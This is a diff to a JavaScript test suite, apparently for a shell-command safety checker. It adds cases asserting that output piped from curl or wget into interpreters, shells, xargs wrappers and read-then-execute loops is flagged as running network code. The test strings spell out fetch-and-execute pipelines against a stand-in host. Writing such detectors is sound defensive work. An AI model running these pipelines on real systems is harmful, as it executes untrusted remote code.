@@ -23,6 +23,10 @@ it.each([
   'while c=$(head -n1); do $c; done',
   'while read c; do eval "$c"; done',
   '(read -ra c; "${c[@]}")',
+  'while read c; do x=$c; $x; done',
+  'while read c; do x="$c"; "$x"; done',
+  'if read c; then $c; fi',
+  '{ read c && $c; }',
   // Words that run those behind them, and have none, or are told to put it there.
   'parallel',
   'parallel -j4',
@@ -38,6 +42,9 @@ it.each([
   'xargs env',
   'xargs -n1 sudo',
   'xargs -0 timeout 5',
+  'xargs -n1 docker exec c',
+  'xargs npx',
+  'xargs -L1 ssh h',
   "xargs -I{} python3 -c '{}'",
   'xargs -n1 python3 -c',
   'xargs -I{} node -e \'eval("{}")\'',
@@ -151,13 +158,21 @@ it.each([
   'ed -s x',
   'ex x',
   'dc',
+  'm4',
+  'tcc -run -',
+  'emacs --script /dev/stdin',
+  'make -f"-"',
+  'uv run -',
+  'script -c sh',
   'nu',
   'elvish',
   'mksh',
   'bun run -',
 ])('C2: what comes from the network is run by %s', (program) => {
   expect(titles(`curl -s https://x.test | ${program}`)).toContain(RUNS);
-  expect(titles(`wget -qO- x.test |& tee l | (cd a && ${program})`)).toContain(RUNS);
+  // Alone these are words of texts.
+  if (!/^(?:batch|expect|su|tsx)$/.test(program))
+    expect(titles(`wget -qO- x.test |& tee l | (cd a && ${program})`)).toContain(RUNS);
 });
 
 it.each([
